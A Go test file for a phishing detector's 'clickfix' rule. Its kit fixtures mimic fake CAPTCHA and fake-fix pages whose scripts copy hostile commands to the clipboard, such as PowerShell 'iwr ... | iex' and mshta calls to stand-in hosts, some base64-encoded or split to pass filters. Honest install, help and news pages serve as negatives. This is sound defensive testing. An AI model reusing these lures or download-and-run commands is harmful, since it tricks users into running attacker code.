package rules

import (
	"strings"
	"testing"
)

// clickfixCases are small pages for the clickfix sign: fake CAPTCHA kits
// (fire) and the honest pages that speak of the same keys (silent).
var clickfixCases = []struct {
	name, url, title, body string
	fire                   bool
	// evidence must hold each of these when the sign fires.
	evidence []string
}{
	// ---- kits
	{"Japanese kit: robot check and the three steps", "https://verify-check.example.top/", "ロボットではありません",
		`<div class="box"><h2>人間であることを確認してください</h2>
<p>認証を完了するには、次の手順を実行してください。</p>
<ol><li>Windowsキー + R を押してください</li><li>Ctrl + V を押して貼り付けてください</li><li>Enter キーを押してください</li></ol></div>`,
		true, []string{"Windowsキー + R", "Ctrl + V"}},
	{"English kit: Cloudflare look-alike and a PowerShell command on the clipboard", "https://cdn-check.example.xyz/", "Just a moment...",
		`<h1>Verify you are human by completing the action below.</h1>
<p>Verification Steps</p><p>1. Press Windows Key + R</p><p>2. Press CTRL + V</p><p>3. Press Enter</p>
<script>function v(){navigator.clipboard.writeText("powershell -w hidden -c \"iwr https://evil.example/a.ps1 | iex\" # I am not a robot - reCAPTCHA Verification ID: 4471");}</script>`,
		true, []string{"powershell -w hidden", "Press Windows Key + R"}},
	{"instructions split over lines, Win+X and Terminal", "https://kakunin.example.top/check", "確認",
		`<p>ロボットではないことを確認します</p><p>手順 1</p><p>Win + X を押し</p><p>「ターミナル」を選んでください</p><p>手順 2</p>
<p>そのまま</p><p>貼り付け（Ctrl+V）てから Enter を押してください</p>`,
		true, []string{"Win + X"}},
	{"command only in an onclick attribute", "https://captcha-gate.example.top/", "reCAPTCHA",
		`<div class="rc"><button onclick="navigator.clipboard.writeText('mshta https://evil.example/verify.hta')">I'm not a robot</button></div>`,
		true, []string{"mshta https://evil.example/verify.hta"}},
	{"execCommand copy of a built textarea", "https://secure-check.example.top/", "Security check",
		`<p>Please complete the reCAPTCHA to continue.</p>
<script>function c(){var t=document.createElement("textarea");t.value="cmd /c curl -s http://198.51.100.7/x | powershell -";document.body.appendChild(t);t.select();document.execCommand("copy");}</script>`,
		true, []string{"cmd /c curl"}},
	{"hidden textarea copied by an onclick", "https://human-check.example.top/", "認証",
		`<p>人間であることを確認してください</p><textarea id="c" style="display:none">powershell -nop -c "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p')"</textarea>
<button onclick="document.getElementById('c').select();document.execCommand('copy')">確認する</button>`,
		true, []string{"powershell -nop"}},
	// Review 19: articles about Cloudflare, no human check.
	{"a cloudflared install note's copy button", "https://tech-blog.example.jp/cloudflared", "Cloudflare Tunnel を入れる",
		`<h1>Cloudflare Tunnel を入れる</h1><p>リポジトリを追加します。</p><button data-clipboard-text="curl -fsSL https://pkg.cloudflare.com/cloudflare-main.gpg | sudo tee /usr/share/keyrings/cloudflare-main.gpg">コピー</button>`,
		false, nil},
	{"a DNS guide with Win+R and a paste", "https://tech-blog.example.jp/dns", "Cloudflare の 1.1.1.1 に DNS を変えたあとにやること",
		`<h1>Cloudflare の 1.1.1.1 に変えたら</h1><ol><li>Win+R を押して cmd と入力します。</li><li>ipconfig /flushdns を貼り付けて Enter を押します。</li></ol>`,
		false, nil},
	{"command split to pass filters", "https://cf-verify.example.top/", "Cloudflare",
		`<p>Checking if the site connection is secure</p><script>var x='pow'+'ershell -c iwr http://198.51.100.7/s | iex';navigator['clip'+'board'].writeText(x)</script>`,
		true, []string{"powershell -c iwr"}},
	{"base64 command decoded with atob", "https://bot-check.example.top/", "I'm not a robot",
		`<script>navigator.clipboard.writeText(atob("bXNodGEgaHR0cHM6Ly9ldmlsLmV4YW1wbGUvdi5odGE="))</script>`,
		true, []string{"mshta https://evil.example/v.hta"}},
	{"kit that adds warning words still writes its command", "https://verify-now.example.top/", "ClickFix 対策済み認証",
		`<p>ロボットではありません</p><p>マルウェア対策のため確認します</p><p>Windowsキー + R、Ctrl + V、Enter の順に押してください</p>
<script>navigator.clipboard.writeText("powershell -w h -c iwr http://198.51.100.7/a|iex")</script>`,
		true, []string{"powershell -w h", "Windowsキー + R"}},
	// p44: no robot words; a command that runs code, on the clipboard and
	// not on the page, and the Run box's keys to paste it.
	{"a fake Google Meet fix", "https://meet-google.example.icu/", "Google Meet",
		`<h2>マイクへのアクセス中に問題が発生しました</h2><p>この問題を修正するには、次の手順に従ってください。</p>
<button onclick="fx()">修正する</button><ol><li>Windowsキー + R を押します</li><li>Ctrl + V を押して貼り付けます</li><li>Enterキーを押します</li></ol>
<script>function fx(){navigator.clipboard.writeText("powershell -w hidden -c \"iwr https://meet-fix.example.icu/fix.ps1 | iex\"");}</script>`,
		true, []string{"https://meet-fix.example.icu/fix.ps1", "Windowsキー + R"}},
	{"a 'browser check': Win+X, the terminal, a base64 command in an off-screen field", "https://check.example.top/", "セキュリティチェック",
		`<h2>ブラウザの安全性を検証しています</h2><p>続行するには、以下の手順で検証を完了してください。</p><button onclick="c()">検証する</button>
<p>1. キーボードで Win + X を押し、「ターミナル」を選びます</p><p>2. 開いた黒い画面の中で右クリックして貼り付けます</p><p>3. Enter を押すと検証が終わります</p>
<textarea id="t" style="position:absolute;left:-9999px"></textarea>
<script>function c(){var t=document.getElementById('t');t.value=atob("bXNodGEgaHR0cHM6Ly9jaGVjay1icm93c2VyLWd1YXJkLmljdS92ZXJpZnkuaHRh");t.select();document.execCommand('copy');}</script>`,
		true, []string{"mshta https://check-browser-guard.icu/verify.hta"}},

	// ---- honest pages
	{"an install guide showing the command it copies, with Win+R", "https://tools.example.org/ja/install", "インストール方法",
		`<p>Win + R を押して powershell と入力し、次のコマンドを貼り付けて Enter を押します。</p>
<pre>powershell -c "irm https://tools.example.org/install.ps1 | iex"</pre>
<button onclick="navigator.clipboard.writeText('powershell -c &quot;irm https://tools.example.org/install.ps1 | iex&quot;')">コピー</button>`,
		false, nil},
	{"IT help page on the Run dialog", "https://support.example.jp/faq/run", "「ファイル名を指定して実行」の開き方",
		`<p>Windowsキー + R を押して「ファイル名を指定して実行」を開き、cmd と入力して Enter を押します。</p><p>コマンドプロンプトが開きます。</p>`,
		false, nil},
	{"IT help page: Run, paste and プロキシ認証", "https://helpdesk.example.ac.jp/network/proxy", "プロキシ設定の確認",
		`<p>プロキシ認証に失敗するときは次を試してください。</p><p>1. Windowsキー + R を押します。</p><p>2. 下の文字列をコピーし、Ctrl+V で貼り付けて Enter を押します。</p><pre>inetcpl.cpl</pre>`,
		false, nil},
	{"JPCERT-style warning quoting the screen", "https://www.jpcert.example.jp/at/2025/at250001.html", "偽のCAPTCHA認証を悪用したマルウェア感染（ClickFix）に関する注意喚起",
		`<p>攻撃者は「ロボットではありません」と表示された偽の認証画面で、Windowsキー + R を押し、Ctrl + V で貼り付けて Enter を押すよう指示します。</p>
<p>クリップボードには PowerShell のコマンドがコピーされています。このような指示には従わないでください。</p>`,
		false, nil},
	{"news article on the lure", "https://www.shinbun.example.jp/articles/20251020-02", "偽の「私はロボットではありません」画面に注意",
		`<p>ウェブサイトに偽の認証画面を表示し、利用者にコマンドを実行させる手口が広がっている。</p>
<p>画面では「Windowsキー + R」「Ctrl + V」「Enter」の順に押させる。</p><p>セキュリティ会社は、貼り付けないよう呼びかけている。</p>`,
		false, nil},
	{"English vendor blog on ClickFix", "https://blog.security-vendor.example.com/clickfix", "Inside the ClickFix campaigns",
		`<p>The fake page tells victims to verify you are human: "Press Windows Key + R, then Ctrl + V, then Enter".</p><p>Attackers put a PowerShell command on the clipboard.</p>`,
		false, nil},
	{"code blog copy buttons: npm install and git clone", "https://dev.example.jp/posts/setup", "開発環境の作り方",
		`<p>Windows では PowerShell を開き、次のコマンドを貼り付けて実行します。</p><pre id="a">npm install shopcheck</pre>
<button onclick="navigator.clipboard.writeText('npm install shopcheck')">コピー</button>
<button onclick="navigator.clipboard.writeText('git clone https://github.com/shopcheck/shopcheck.git')">コピー</button>`,
		false, nil},
	{"installer page copying a PowerShell one-liner, no CAPTCHA words", "https://tools.example.org/install", "Install the tool",
		`<p>Open PowerShell and paste:</p><button onclick="navigator.clipboard.writeText('powershell -c &quot;irm https://tools.example.org/install.ps1 | iex&quot;')">Copy</button>`,
		false, nil},
	{"a real Cloudflare check without run or paste steps", "https://www.example-shop.jp/", "Just a moment...",
		`<h1>www.example-shop.jp</h1><h2>Verify you are human by completing the action below.</h2><p>Checking if the site connection is secure</p>
<p>Ray ID: 8d2f1c3a7b9e4f10</p><p>Performance &amp; security by Cloudflare</p><script>window._cf_chl_opt={cvId:'3'};</script>`,
		false, nil},
	{"contact page with reCAPTCHA and a highlighter naming PowerShell", "https://blog.example.com/posts/ps", "Scripting notes",
		`<p>This form is protected by reCAPTCHA.</p><pre>Get-Process</pre>
<script>hljs.registerLanguage('powershell', ps);document.querySelectorAll('pre').forEach(function(p){p.onclick=function(){navigator.clipboard.writeText(p.innerText)}})</script>`,
		false, nil},
	{"Cloudflare Tunnel blog: paste into the terminal", "https://dev.example.jp/posts/tunnel", "Cloudflare Tunnel の使い方",
		`<p>ターミナルを開き、次のコマンドを貼り付けて実行します。</p><pre>cloudflared tunnel login</pre>`,
		false, nil},
	{"forum with a robot check and a command in a textarea nothing copies", "https://forum.example.net/post/new", "New post",
		`<form><textarea name="body">powershell -c Get-Process | Sort-Object CPU</textarea><p>I'm not a robot</p><button>Post</button></form>`,
		false, nil},
	{"consultation case reporting the screen's words", "https://www.soudan.example.jp/case/31", "相談事例 31",
		`<p>サイトを開くと「ロボットではありません」という画面になりました。</p><p>Windowsキー + R を押すよう指示され、</p><p>Ctrl + V で貼り付けさせられました。</p>`,
		false, nil},
	{"FAQ whose robot check and Run steps stand far apart", "https://www.example.ac.jp/faq", "よくある質問",
		`<p>Q1. 申込フォームの「私はロボットではありません」が表示されません</p><p>A. ブラウザを更新してください。</p>
<p>Q2. IPアドレスの調べ方</p><p>A. Windowsキー + R を押し、cmd と入力します。</p><p>ipconfig と入力します。</p><p>Q3. 学生番号</p><p>A. 学生証をご覧ください。</p>
<p>Q4. 印刷</p><p>A. 印刷センターへ。</p><p>Q5. レポートの提出</p><p>A. 本文を Ctrl+V で貼り付けて送信します。</p>`,
		false, nil},
	{"IPA-style page showing a mock of the screen", "https://www.ipa.example.go.jp/security/anshin/clickfix.html", "偽のCAPTCHA画面（ClickFix）にご注意ください",
		`<p>次のような画面が表示されます（画面の例）。</p><div class="mock"><p>ロボットではありません</p><p>1. Windowsキー + R を押してください</p><p>2. Ctrl + V を押してください</p><p>3. Enter を押してください</p></div>
<p>この指示に従うと、攻撃者のプログラムがパソコンで実行されます。</p>`,
		false, nil},
	{"diary reporting what a site told the writer", "https://diary.example.jp/entry/2025-11-02", "日記",
		`<p>昨日は雨だった。</p><p>レシピを探していたら、あるサイトで「ロボットではありません」と表示され、Windowsキー + R を押してから Ctrl + V で貼り付けるよう指示された。怖いのでやめた。</p>`,
		false, nil},
	{"form help text: paste the code with Ctrl+V", "https://member.example.jp/login/otp", "ワンタイムパスワード",
		`<form><label>認証コード</label><input name="otp"><p class="help">メールのコードをコピーし、Ctrl+Vで貼り付けてください。</p></form>`,
		false, nil},
}

func TestClickfix(t *testing.T) {
	for _, c := range clickfixCases {
		t.Run(c.name, func(t *testing.T) {
			site := phSite(phHTML(c.url, phDoc(c.title, c.body)))
			got := phFired(site)
			s, ok := got["clickfix"]
			if ok != c.fire {
				t.Fatalf("clickfix fired %v, want %v: evidence %q", ok, c.fire, s.Evidence)
			}
			for _, w := range c.evidence {
				if !strings.Contains(s.Evidence, w) {
					t.Errorf("evidence %q lacks %q", s.Evidence, w)
				}
			}
			if ok && (s.Points != 60 || s.Severity != High) {
				t.Errorf("points %d severity %v, want 60 high", s.Points, s.Severity)
			}
			// No other page sign is taken in by these pages.
			var want []string
			if c.fire {
				want = append(want, "clickfix")
			}
			for _, id := range []string{"phishing-brand-impersonation", "phishing-credential-form", "form-posts-offsite", "download-app"} {
				if _, ok := got[id]; ok {
					want = append(want, id)
				}
			}
			phExpect(t, got, want...)
		})
	}
}

// TestClickfixRule: the sign is listed with its contract's fields.
func TestClickfixRule(t *testing.T) {
	r, ok := ByID(All())["clickfix"]
	if !ok {
		t.Fatal("clickfix is not among All()")
	}
	if r.Severity != High || r.Points != 60 || r.Topic != "phishing" || !r.NeedsPage {
		t.Errorf("clickfix: %v %d %q needs page %v", r.Severity, r.Points, r.Topic, r.NeedsPage)
	}
	for _, s := range []string{r.Summary.JA, r.Summary.EN, r.Message.JA, r.Message.EN} {
		if s == "" {
			t.Error("empty summary or message")
		}
	}
	if !strings.Contains(r.Message.JA, "#9110") || !strings.Contains(r.Message.EN, "#9110") {
		t.Error("message names no desk")
	}
}

// BenchmarkClickfixSmall is the sign on a small honest page, which has
// neither paste words nor a clipboard write: it must cost next to nothing
// and allocate nothing.
func BenchmarkClickfixSmall(b *testing.B) {
	site := phSite(phHTML("https://shop1.test/", `<!DOCTYPE html><html lang="ja"><head><title>shop1.test の店</title></head><body>
<h1>手作り雑貨の店</h1><p>いつもご利用ありがとうございます。商品 /item/12 をご覧ください。</p>
<p>お支払い方法: クレジットカード、コンビニ払い、代金引換</p><script>document.querySelector('h1').onclick=function(){};</script></body></html>`))
	clickfixData()
	b.ReportAllocs()
	for b.Loop() {
		checkClickfix(site)
	}
}

// TestClickfixFixtures: the fixture kit fires with its command and its
// steps quoted; the help desk's page on the Run dialog, with its copy
// buttons and プロキシ認証, stays silent.
func TestClickfixFixtures(t *testing.T) {
	kit := phFired(phSite(phPage(t, "clickfix-kit/index.html", "https://www.hana-salon.example.jp/blog/")))
	phExpect(t, kit, "clickfix")
	for _, w := range []string{"powershell -w hidden -nop", "⊞ + R", "Ctrl + V", "ロボットではありません"} {
		if !strings.Contains(kit["clickfix"].Evidence, w) {
			t.Errorf("kit evidence %q lacks %q", kit["clickfix"].Evidence, w)
		}
	}
	phExpect(t, phFired(phSite(phPage(t, "clickfix-help/index.html", "https://www.it-help.example.ac.jp/faq/run-dialog.html"))))
}

// BenchmarkClickfixLongScript is the sign on a page with a long bundle
// that says "copyright" and adds numbers: no clipboard write, so no
// literal is glued or read.
func BenchmarkClickfixLongScript(b *testing.B) {
	js := "/* copyright example */" + strings.Repeat("var a=b+c+'x'+d;function f(k){return k+1}\n", 4000)
	site := phSite(phHTML("https://shop1.test/", phDoc("shop", "<p>hello</p><script>"+js+"</script>")))
	clickfixData()
	b.ReportAllocs()
	for b.Loop() {
		checkClickfix(site)
	}
}
